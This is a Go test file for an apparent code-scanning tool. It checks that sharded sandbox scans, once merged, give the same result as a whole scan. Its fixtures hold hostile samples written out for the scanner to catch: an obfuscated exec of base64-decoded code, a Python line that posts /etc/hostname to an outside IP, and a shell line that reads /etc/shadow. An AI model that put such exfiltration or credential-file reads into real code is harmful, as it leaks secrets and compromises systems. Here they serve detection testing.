package main

import (
	"fmt"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/tools/testenv"
)

// milliseconds is when something happened.
var milliseconds = regexp.MustCompile(`\d+(\.\d+)? ?m?s\b`)

// TestShardsInRealContainersAreTheWhole runs programs that use each other, tests of
// a project, and one that a static rule keeps out of every container.
func TestShardsInRealContainersAreTheWhole(t *testing.T) {
	t.Parallel()
	testenv.Docker(t)
	for _, lang := range []string{"python", "shell"} {
		testenv.Image(t, lang)
	}
	g := newRealGate(t, map[string]string{
		"app/pyproject.toml": "", "app/shop.py": "def f():\n    return 1\n", "app/cart.py": "def g():\n    return 2\n",
		"app/tests/test_shop.py": "import unittest, shop\nclass TestShop(unittest.TestCase):\n    def test_f(self):\n        self.assertEqual(shop.f(), 1)\n",
		"app/tests/test_cart.py": "import unittest, cart\nclass TestCart(unittest.TestCase):\n    def test_g(self):\n        self.assertEqual(cart.g(), 2)\n",
		"uses.py":                "import os\nprint(os.path.exists('evil.py'))\nimport evil\n",
		"evil.py":                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
		"secret.py":              "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/x', data=open('/etc/hostname', 'rb').read(), timeout=2)\n",
		"one.sh":                 "echo one\n", "two.sh": "cat /etc/shadow\n",
	})
	want, code := g.result("scan", ".", "--layers", "static,sandbox", "--no-cache")
	if code != exitBlocked {
		t.Fatalf("exit code %d, want 1", code)
	}
	const n = 3
	args, shared := []string{"merge"}, 0
	for i := 1; i <= n; i++ {
		save := filepath.Join(t.TempDir(), "shard.json")
		part, _ := g.result("scan", ".", "--layers", "static,sandbox", "--no-cache", "--shard", fmt.Sprintf("%d/%d", i, n), "--save", save)
		if len(part.Files) > 0 {
			shared++
		}
		args = append(args, save)
	}
	if shared < 2 {
		t.Fatalf("%d of %d shards have files", shared, n)
	}
	got, code := g.result(args...)
	if code != exitBlocked {
		t.Errorf("exit code %d, want 1", code)
	}
	for _, res := range []gate.Result{want, got} {
		for _, f := range res.Files {
			for i := range f.Findings {
				f.Findings[i].Evidence = milliseconds.ReplaceAllString(f.Findings[i].Evidence, "N")
				// Which of two things that are seen in the same millisecond, a connection and
				// the request on it, is named is chance.
				if before, more, ok := strings.Cut(f.Findings[i].Evidence, ", and "); ok && before != "" {
					f.Findings[i].Evidence = "one of them, and " + more
				}
			}
		}
	}
	measured := cmp.Options{
		cmpopts.IgnoreFields(gate.LayerResult{}, "DurationMS"),
		cmpopts.IgnoreFields(gate.Execution{}, "DurationMS", "Resources", "Behaviour"),
		cmpopts.IgnoreFields(gate.Unit{}, "DurationMS", "CPUMS", "Stderr"),
	}
	if diff := cmp.Diff(want, got, measured); diff != "" {
		t.Errorf("(-whole +merged):\n%s", diff)
	}
}
